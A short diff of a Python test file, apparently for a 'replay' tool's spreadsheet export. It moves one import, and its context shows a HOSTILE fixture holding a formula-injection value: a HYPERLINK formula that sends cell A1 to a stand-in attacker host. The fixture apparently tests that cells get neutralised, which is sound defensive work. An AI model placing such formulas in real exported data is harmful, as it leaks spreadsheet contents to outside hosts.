@@ -17,7 +17,7 @@ import pytest
 from replay.cli import main
 from replay.codec import encode_jsonl
 from replay.sheet_format import FORMULA_START, neutral_cell
-from tests.streams.test_ingest import game
+from tests.streams.ingest.support import game
 
 HOSTILE = {
     "league": '=HYPERLINK("http://evil.example/?"&A1,"click")',
